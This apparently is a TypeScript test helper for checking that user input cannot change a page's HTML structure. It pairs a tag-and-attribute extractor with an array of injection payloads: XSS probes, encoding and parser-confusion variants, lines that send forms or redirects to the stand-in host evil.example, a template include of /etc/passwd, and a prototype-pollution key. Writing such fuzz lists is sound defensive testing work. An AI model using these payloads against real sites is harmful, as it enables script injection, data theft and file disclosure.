/** The elements of a page in order, each with the names of its attributes: what must stay the same whatever people type. */
export function skeleton(html: string): string[] {
  return [...html.matchAll(/<(\/?[a-z][a-z0-9]*)((?:\s+[^\s=>"'/]+(?:="[^"]*")?)*)[^>]*>/gi)].map(
    ([, name = '', rest = '']) =>
      [
        name.toLowerCase(),
        ...[...rest.matchAll(/\s([^\s=>"'/]+)(?:="[^"]*")?/g)].map(([, attribute = '']) => attribute),
      ].join(' '),
  )
}

/** Text that becomes an element, an attribute, a script or a template where somebody forgets to write it as text. */
export const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><svg onload=alert(1)>',
  '</textarea><svg/onload=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '` onclick=alert(1) `',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=csrf>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<%= 7777 * 7 %>',
  '<%- include("/etc/passwd") %>',
  '{7777, number} {name} {{7777*7}} $\u007b7777*7} #{7777*7}',
  '{x, select, other {<b>}}',
  '__proto__',
  '\u202e<script>\u202c',
]
